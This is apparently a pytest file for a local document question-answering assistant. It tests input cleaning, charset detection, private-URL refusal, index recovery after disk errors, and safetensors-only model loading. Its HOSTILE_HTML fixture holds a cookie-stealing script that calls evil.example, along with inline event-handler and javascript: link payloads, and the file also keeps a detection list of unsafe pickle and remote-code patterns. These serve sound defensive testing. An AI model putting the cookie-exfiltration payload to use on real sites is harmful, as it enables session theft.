"""Reliability and security (issue #7): bad questions, bad sources, refused URLs, broken indexes, unsafe models.

The README's "Reliability and security" table maps every bad input or fault to a test; the rows already
covered by test_sources, test_index, test_web, test_cli and test_reader are not repeated here. These tests
use the tiny random reader of conftest (answers are arbitrary: the tests check behaviour, not answers).
"""

from __future__ import annotations

import errno
import http.server
import json
import os
import re
import shutil
import socket
import threading
from contextlib import contextmanager
from pathlib import Path

import pytest

from conftest import REPO
from qa import index as store
from qa.assistant import Assistant, QuestionError, clean_question
from qa.config import ConfigError, Settings
from qa.index import IndexFileError
from qa.reader import Reader, ReaderError
from qa.sources import MAX_BYTES, SourceError, load_source

QUDS = "Who is the commander of the Quds Force?"
REBUILD = "qa index build"


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(f.relative_to(folder)): f.read_bytes() for f in sorted(folder.rglob("*")) if f.is_file()}


def _assert_cites_its_source(assistant: Assistant, answer) -> None:
    for citation in answer.citations:
        assert assistant.source(citation.source_id).text[citation.start:citation.end] == answer.text


@pytest.fixture(scope="module")
def assistant(article_index, embedder, tiny_reader) -> Assistant:
    """The article in memory, the tiny reader, always answering (so answers and citations can be checked)."""
    return Assistant(article_index, embedder, tiny_reader, Settings(no_answer_threshold=-1e9))


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def serving(assistant: Assistant):
    from qa import web

    demo = web.build_app(assistant)
    port = free_port()
    demo.launch(prevent_thread_lock=True, server_port=port, server_name="127.0.0.1", quiet=True, show_error=True)
    try:
        yield f"http://127.0.0.1:{port}/"
    finally:
        demo.close()


@pytest.fixture(scope="module")
def client(assistant):
    pytest.importorskip("gradio_client")
    from gradio_client import Client

    with serving(assistant) as url:
        yield Client(url, verbose=False)


# ------------------------------------------------------------------------------------------------
# Questions


def test_control_characters_are_removed_emoji_and_other_scripts_kept():
    text, notices = clean_question("Who\x00 is\x07 the\u202e commander 🙂 of the\u200b Quds Force?\r\n\t", 2000)
    assert text == "Who is the commander 🙂 of the Quds Force?"
    assert notices == []
    assert clean_question("  ¿Quién   es el comandante?  ", 2000)[0] == "¿Quién es el comandante?"


@pytest.mark.parametrize("question", ["", "   \n\t ", "\x00\x01\x1b", "\u200b\u200e"])
def test_an_empty_question_is_refused(question):
    with pytest.raises(QuestionError, match="empty"):
        clean_question(question, 2000)


def test_a_question_that_is_not_text_is_refused(assistant):
    with pytest.raises(QuestionError, match="must be text"):
        assistant.ask(None)  # type: ignore[arg-type]


def test_a_100k_character_question_is_answered_on_a_truncated_question_with_a_notice(assistant):
    question = (QUDS + " ") * 2500  # 100,000 characters
    assert len(question) == 100_000
    answer = assistant.ask(question)
    assert len(answer.question) <= assistant.settings.max_question_chars
    assert question.startswith(answer.question)
    assert any("100,000 characters" in n and "were used" in n for n in answer.notices), answer.notices
    # The reader's window still holds part of the passage: it read the question's beginning, and says so.
    assert any("too long for the reader" in n for n in answer.notices), answer.notices
    assert answer.text is not None and answer.citations
    _assert_cites_its_source(assistant, answer)


def test_the_reader_cuts_a_question_too_long_for_its_window_instead_of_failing(tiny_reader):
    passage = "Qassem Suleimani, the commander of the Quds Force, reports to Ayatollah Ali Khamenei."
    long_question = "Who reports to the supreme leader of Iran " + "and " * 600 + "?"
    reading = tiny_reader.read(long_question, [passage])
    assert reading.question_chars is not None and reading.question_chars < len(long_question)
    assert all(passage[s.start:s.end] == s.text for s in reading.spans) and reading.spans
    short = tiny_reader.read("Who reports to Khamenei?", [passage])
    assert short.question_chars is None


@pytest.mark.parametrize("question", [
    "Who 🙂 is the commander of the Quds Force? 🚀🚀",
    "¿Quién es el comandante de la Fuerza Quds?",
    "Кто командует силами «Кудс»?",
    "من هو قائد فيلق القدس؟",
    "圣城旅的指挥官是谁？",
    "👍",
])
def test_emoji_and_non_english_questions_are_answered_without_error(assistant, question):
    answer = assistant.ask(question)
    assert answer.question == question
    _assert_cites_its_source(assistant, answer)


def test_through_the_web_api_a_huge_question_gets_its_notices_and_emoji_come_back_intact(client):
    result = client.predict((QUDS + " ") * 2500, api_name="/ask")
    assert len(result["question"]) <= 2000
    assert any("100,000 characters" in n for n in result["notices"])
    emoji = "Who 🙂 is the commander of the Quds Force?"
    assert client.predict(emoji, api_name="/ask")["question"] == emoji
    _, messages, *_ = client.predict("\x00Кто 🙂 командует?", None, api_name="/chat")
    rendered = json.dumps(messages, ensure_ascii=False)
    assert "Кто 🙂 командует?" in rendered and "\\u0000" not in rendered


# ------------------------------------------------------------------------------------------------
# Sources

HOSTILE_HTML = """<!doctype html><html><head><title>Council vote &lt;b&gt;tonight&lt;/b&gt;</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
<body onload="alert('BODY_ONLOAD')"><article>
<p onclick="alert('P_ONCLICK')">The city council will vote tonight on the new budget, officials said on Monday,
after weeks of debate about road repairs and school funding across the district.</p>
<p>Hackers once typed &lt;script&gt;alert(1)&lt;/script&gt; into the council's comment form, the clerk said,
and the <a href="javascript:alert('JS_LINK')">form</a> was fixed the same week without any data loss.</p>
<iframe src="https://evil.example/frame"></iframe>
<img src="x" onerror="alert('IMG_ONERROR')">
</article></body></html>"""


def test_html_scripts_and_handlers_are_dropped_and_markup_in_the_text_is_shown_escaped(tmp_path):
    from qa import web

    path = tmp_path / "council.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    source = load_source(path)
    assert "The city council will vote tonight" in source.text
    for marker in ("document.cookie", "BODY_ONLOAD", "P_ONCLICK", "JS_LINK", "IMG_ONERROR", "evil.example"):
        assert marker not in source.text, marker
    # Markup written as text in the page is text in the source ...
    assert "<script>alert(1)</script>" in source.text
    # ... and it is escaped wherever the web app shows it: never rendered as HTML.
    start = source.text.index("<script>")
    for shown in (web.render_source(source), web.render_source(source, [(start, start + 25, "Q1: <b>?</b>")])):
        assert "&lt;script&gt;alert(1)" in shown
        assert "<script" not in shown.lower() and "<b>" not in shown.lower()


def test_a_wrongly_declared_charset_falls_back_to_detection(tmp_path):
    html = ("<html><head><meta charset='utf-8'><title>Caf\xe9</title></head><body><article><p>Le caf\xe9 est "
            "ouvert \xe0 Paris depuis ce matin, et les clients sont nombreux \xe0 venir go\xfbter la nouvelle "
            "cr\xe8me br\xfbl\xe9e.</p></article></body></html>")
    path = tmp_path / "cafe.html"
    path.write_bytes(html.encode("cp1252"))  # declares UTF-8, is windows-1252
    assert "Le café est ouvert à Paris" in load_source(path).text


def test_east_asian_legacy_encodings_are_detected(tmp_path):
    text = "東京の天気は晴れです。今日は良い天気ですね。明日も晴れるでしょう。ニュースをお伝えします。"
    path = tmp_path / "tokyo.txt"
    path.write_bytes(text.encode("shift_jis"))
    assert load_source(path).text == text


def test_random_bytes_are_refused_as_binary_or_unknown_encoding(tmp_path):
    import random

    rng = random.Random(7)
    data = bytes(rng.randrange(1, 256) for _ in range(4000))  # no NUL byte
    path = tmp_path / "noise.txt"
    path.write_bytes(data)
    with pytest.raises(SourceError, match="binary file|unknown encoding"):
        load_source(path)


def test_a_file_over_the_default_size_limit_is_refused_before_reading(tmp_path):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as handle:
        handle.truncate(MAX_BYTES + 1)  # sparse: no disk used, nothing read
    with pytest.raises(SourceError) as info:
        load_source(path)
    message = str(info.value)
    assert f"{MAX_BYTES + 1:,} bytes" in message and f"{MAX_BYTES:,} bytes" in message
    assert "max_bytes" in message and "split the document" in message


# ------------------------------------------------------------------------------------------------
# URLs: private addresses are refused by default; a setting allows them for local use

ARTICLE_TEXT = ("Harbour Ferry Times\n\nThe ferry to the island leaves the harbour at seven every morning, "
                "the harbour master said, and returns at six in the evening.\n")


@pytest.fixture(scope="module")
def local_site():
    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            body = ARTICLE_TEXT.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/plain; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/ferry.txt"
    httpd.shutdown()
    httpd.server_close()


def test_the_web_index_tab_refuses_a_loopback_url_by_default(saved_index, tiny_reader, local_site):
    from qa import web

    assistant = Assistant.load(saved_index, reader=tiny_reader)
    assert assistant.settings.allow_private_urls is False
    before = _snapshot(saved_index)
    report, *_ = web.WebChat(assistant).add([], local_site, None, [])
    assert "0 sources added or replaced, 1 skipped" in report
    assert "loopback address" in report and "QA_ALLOW_PRIVATE_URLS=1" in report
    assert _snapshot(saved_index) == before


def test_qa_allow_private_urls_lets_the_web_app_fetch_a_local_url(saved_index, tiny_reader, local_site,
                                                                  monkeypatch):
    from qa import web

    monkeypatch.setenv("QA_ALLOW_PRIVATE_URLS", "1")
    assistant = Assistant.load(saved_index, reader=tiny_reader)
    assert assistant.settings.allow_private_urls is True
    report, *_ = web.WebChat(assistant).add([], local_site, None, [])
    assert "1 source added or replaced, 0 skipped" in report
    assert any(s.origin == local_site for s in assistant.sources())


# ------------------------------------------------------------------------------------------------
# Index: missing files, full disk, a failed save or reload leaves the last good index in use


@pytest.mark.parametrize("name", ["vectors.faiss", "passages.json"])
def test_a_missing_index_file_is_refused_with_how_to_rebuild(saved_index, name):
    (saved_index / name).unlink()
    with pytest.raises(IndexFileError, match=REBUILD) as info:
        store.load(saved_index)
    assert f"missing {name}" in str(info.value)


def _enospc(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("target", ["source text", "passages.json", "manifest.json", "fsync"])
def test_a_full_disk_at_any_write_leaves_the_previous_index_loadable(saved_index, article_index, monkeypatch,
                                                                     target):
    before = _snapshot(saved_index)
    if target == "fsync":
        monkeypatch.setattr(os, "fsync", _enospc)
    else:
        real_write_text = Path.write_text

        def write_text(self, *args, **kwargs):
            building = any(".new-" in part for part in self.parts)
            if building and (self.parent.name == "sources" if target == "source text" else self.name == target):
                _enospc()
            return real_write_text(self, *args, **kwargs)

        monkeypatch.setattr(Path, "write_text", write_text)
    with pytest.raises(IndexFileError) as info:
        store.save(article_index, saved_index)
    message = str(info.value)
    assert "No space left on device" in message
    assert "unchanged" in message and "free disk space" in message
    monkeypatch.undo()
    assert _snapshot(saved_index) == before
    assert list(saved_index.parent.glob(f".{saved_index.name}.new-*")) == []
    assert store.load(saved_index).passages == article_index.passages


def test_a_full_disk_before_the_build_folder_exists_is_an_index_error(saved_index, article_index, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "mkdtemp", _enospc)
    with pytest.raises(IndexFileError, match="free disk space"):
        store.save(article_index, saved_index)


def test_adding_sources_on_a_full_disk_keeps_the_assistant_on_its_last_good_index(saved_index, tiny_reader,
                                                                                  tmp_path, monkeypatch):
    import faiss

    assistant = Assistant.load(saved_index, reader=tiny_reader, no_answer_threshold=-1e9)
    old_index = assistant.index
    before = _snapshot(saved_index)
    new = tmp_path / "ferry.txt"
    new.write_text(ARTICLE_TEXT, encoding="utf-8")
    monkeypatch.setattr(faiss, "write_index", _enospc)
    with pytest.raises(IndexFileError, match="free disk space"):
        assistant.add_sources([new])
    monkeypatch.undo()
    assert assistant.index is old_index and len(assistant.sources()) == 1
    assert assistant.ask(QUDS).citations  # still answering from the last good index
    assert _snapshot(saved_index) == before
    # The web app reports it instead of failing.
    from qa import web

    monkeypatch.setattr(faiss, "write_index", _enospc)
    report, *_ = web.WebChat(assistant).add([str(new)], "", None, [])
    assert "Nothing was added" in report and "free disk space" in report


def test_reloading_a_corrupted_index_keeps_the_last_good_one_in_use(saved_index, tiny_reader):
    from qa import web

    assistant = Assistant.load(saved_index, reader=tiny_reader, no_answer_threshold=-1e9)
    vectors = saved_index / "vectors.faiss"
    vectors.write_bytes(vectors.read_bytes()[:100])  # truncated behind the server's back
    with pytest.raises(IndexFileError, match=REBUILD):
        assistant.reload()
    message, *_ = web.WebChat(assistant).reload(None, [])
    assert "previous one is still in use" in message and REBUILD in message
    assert assistant.ask(QUDS).citations


# ------------------------------------------------------------------------------------------------
# Models: safetensors only, no remote code, no pickle on any load path


def test_the_reader_is_loaded_from_safetensors_without_remote_code(tiny_reader_dir, monkeypatch):
    import transformers

    calls = {}
    real_model, real_tokenizer = (transformers.AutoModelForQuestionAnswering.from_pretrained,
                                  transformers.AutoTokenizer.from_pretrained)

    def model_from_pretrained(*args, **kwargs):
        calls["model"] = kwargs
        return real_model(*args, **kwargs)

    def tokenizer_from_pretrained(*args, **kwargs):
        calls["tokenizer"] = kwargs
        return real_tokenizer(*args, **kwargs)

    monkeypatch.setattr(transformers.AutoModelForQuestionAnswering, "from_pretrained", model_from_pretrained)
    monkeypatch.setattr(transformers.AutoTokenizer, "from_pretrained", tokenizer_from_pretrained)
    Reader.load(tiny_reader_dir)
    assert calls["model"]["use_safetensors"] is True and calls["model"]["trust_remote_code"] is False
    assert calls["tokenizer"]["trust_remote_code"] is False


def test_a_reader_with_only_pickle_weights_is_refused_and_no_pickle_is_opened(tiny_reader_dir, tmp_path,
                                                                              monkeypatch):
    import pickle

    import torch
    from safetensors.torch import load_file

    folder = tmp_path / "pickled-reader"
    shutil.copytree(tiny_reader_dir, folder)
    torch.save(load_file(str(folder / "model.safetensors")), folder / "pytorch_model.bin")
    (folder / "model.safetensors").unlink()
    opened = []
    monkeypatch.setattr(torch, "load", lambda *a, **k: opened.append(a) or pytest.fail("torch.load was called"))
    monkeypatch.setattr(pickle, "load", lambda *a, **k: opened.append(a) or pytest.fail("pickle.load was called"))
    with pytest.raises(ReaderError, match="safetensors"):
        Reader.load(folder)
    assert opened == []


def test_an_embedder_with_only_pickle_weights_is_refused(tmp_path):
    from qa.embedding import Embedder

    folder = tmp_path / "pickled-embedder"
    (folder / "0_Dense").mkdir(parents=True)
    (folder / "config.json").write_text("{}")
    (folder / "model.safetensors").write_bytes(b"")  # the transformer is fine ...
    (folder / "0_Dense" / "pytorch_model.bin").write_bytes(b"\x80\x04not really a pickle")  # ... a module is not
    with pytest.raises(ConfigError, match="pickle"):
        Embedder.load(str(folder))


def test_the_web_server_caps_malloc_arenas_before_it_loads_anything(monkeypatch):
    """Many server threads answering in turn must not each keep a malloc arena (bench/memory.py, bench/load.py)."""
    from qa import memory, web

    capped = []
    monkeypatch.delenv("QA_MALLOC_ARENAS", raising=False)
    monkeypatch.setattr(memory, "limit_arenas", lambda n: capped.append(n) or n)

    class Stop(Exception):
        pass

    def loading(*args, **kwargs):
        assert capped == [2], "the arenas are capped before the models load"
        raise Stop

    monkeypatch.setattr(web.Assistant, "load", loading)
    with pytest.raises(Stop):
        web.launch()


def test_capping_malloc_arenas_works_on_glibc_and_is_a_no_op_elsewhere():
    import platform

    from qa import memory

    assert memory.limit_arenas(2) == (2 if platform.libc_ver()[0] == "glibc" else None)
    assert memory.limit_arenas(0) is None


PICKLE_PATTERNS = [
    r"^\s*import (c?pickle|dill|joblib|cloudpickle|shelve|marshal)\b",
    r"^\s*from (c?pickle|dill|joblib|cloudpickle|shelve|marshal) import",
    r"\bpickle\.loads?\(",
    r"allow_pickle\s*=\s*True",
    r"trust_remote_code\s*=\s*True",
    r"use_safetensors\s*=\s*False",
    r"weights_only\s*=\s*False",
]


def test_no_pickle_or_remote_code_on_any_load_path_in_the_package():
    files = sorted((REPO / "qa").rglob("*.py")) + [REPO / "app.py"]
    problems = []
    for file in files:
        for number, line in enumerate(file.read_text(encoding="utf-8").splitlines(), start=1):
            for pattern in PICKLE_PATTERNS:
                if re.search(pattern, line):
                    problems.append(f"{file.relative_to(REPO)}:{number}: {line.strip()}")
            # torch.load is only allowed in its safe mode (training checkpoints of our own).
            if "torch.load(" in line and "weights_only=True" not in line:
                problems.append(f"{file.relative_to(REPO)}:{number}: {line.strip()}")
    assert problems == []
